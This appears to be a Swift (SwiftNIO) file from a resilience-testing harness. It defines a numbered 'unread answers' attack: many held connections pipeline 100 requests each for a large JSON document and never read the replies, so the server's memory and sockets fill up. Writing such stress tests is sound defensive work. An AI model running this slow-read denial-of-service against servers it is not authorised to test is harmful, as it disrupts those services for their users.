import NIOCore

/// Attack 9: pipelined requests for a large answer, which the client never reads.
struct UnreadAnswers: Attack {
    let name = "9, unread answers"

    private static let requestsPerConnection = 100

    func start(by attacker: Attacker) async throws {
        let request = ByteBuffer.request("GET", "/openapi.json")
        var requests = ByteBuffer()
        for _ in 0..<Self.requestsPerConnection { requests.writeImmutableBuffer(request) }
        // A burst of connections would only measure the speed of copying answers into socket buffers.
        attacker.hold(250, openedEvery: .milliseconds(20), replacedAfter: .seconds(1)) { [requests] _ in
            UnreadingHandler(requests)
        }
    }
}

/// A client that sends and never reads.
private final class UnreadingHandler: ChannelDuplexHandler {
    typealias InboundIn = ByteBuffer
    typealias OutboundIn = ByteBuffer
    typealias OutboundOut = ByteBuffer

    private let requests: ByteBuffer

    init(_ requests: ByteBuffer) {
        self.requests = requests
    }

    func channelActive(context: ChannelHandlerContext) {
        context.writeAndFlush(wrapOutboundOut(requests), promise: nil)
    }

    func read(context: ChannelHandlerContext) {}
}
